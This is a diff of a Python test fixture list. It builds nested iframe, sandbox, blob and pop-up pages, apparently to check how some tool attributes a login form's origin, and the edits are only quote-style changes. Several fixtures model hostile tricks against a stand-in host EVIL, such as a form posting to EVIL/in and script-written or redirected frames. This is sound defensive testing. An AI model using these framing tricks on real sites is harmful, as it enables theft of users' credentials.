@@ -241,14 +241,14 @@ FRAMES = [
     at_home("blob", f"<p id=h></p><script>const i = document.createElement('iframe'); i.src = URL.createObjectURL(new Blob([`{form()}`], {{type: 'text/html'}})); h.append(i)</script>", "blob:"),
     at_home("sandbox", f'<iframe sandbox="allow-forms allow-scripts" srcdoc="{quoted(STRANGE)}"></iframe>', "sandbox"),
     at_home("sandbox that tells another origin", f'<iframe sandbox="allow-forms allow-scripts" srcdoc="{quoted("<script>self.origin = parent.origin</script>" + STRANGE)}"></iframe>', "sandbox"),
-    at_home("sandbox in a sandbox", f'<iframe sandbox="allow-forms allow-scripts" src=/box></iframe>', "sandbox", box=f'<iframe srcdoc="{quoted(GOOD)}"></iframe>'),
+    at_home("sandbox in a sandbox", '<iframe sandbox="allow-forms allow-scripts" src=/box></iframe>', "sandbox", box=f'<iframe srcdoc="{quoted(GOOD)}"></iframe>'),
     at_home("mail's letter in the page", f'<iframe srcdoc="{quoted(form(f"method=post action={EVIL}/in"))}"></iframe>', ELSEWHERE),
     Shape("a blank frame that a stranger leads", {
         f"{PORTAL}/": f"<iframe src={EVIL}/lead></iframe>", f"{LOGIN}/empty": "<iframe name=inner></iframe>",
         f"{EVIL}/lead": f"<iframe src={LOGIN}/empty onload=\"const w = frames[0].frames[0]; w.location = 'about:blank'; "
-        f"setTimeout(() => w.document.write(`{quoted(form())}`), 300)\"></iframe>",
+        f'setTimeout(() => w.document.write(`{quoted(form())}`), 300)"></iframe>',
     }, ""),
-    at_home("a frame that is led away at the touch", '<iframe id=i src=/form></iframe>', "", form=form(script=on("focus", f"location = '{EVIL}/'"))),
+    at_home("a frame that is led away at the touch", "<iframe id=i src=/form></iframe>", "", form=form(script=on("focus", f"location = '{EVIL}/'"))),
     at_home("a pop-up", f"<title>Sign in</title><a href={EVIL}/ target=_blank id=a>Sign in</a><script>setTimeout(() => a.click(), 50)</script>", EVIL),
 ]  # fmt: skip
 """Documents in documents, and pages of their own."""
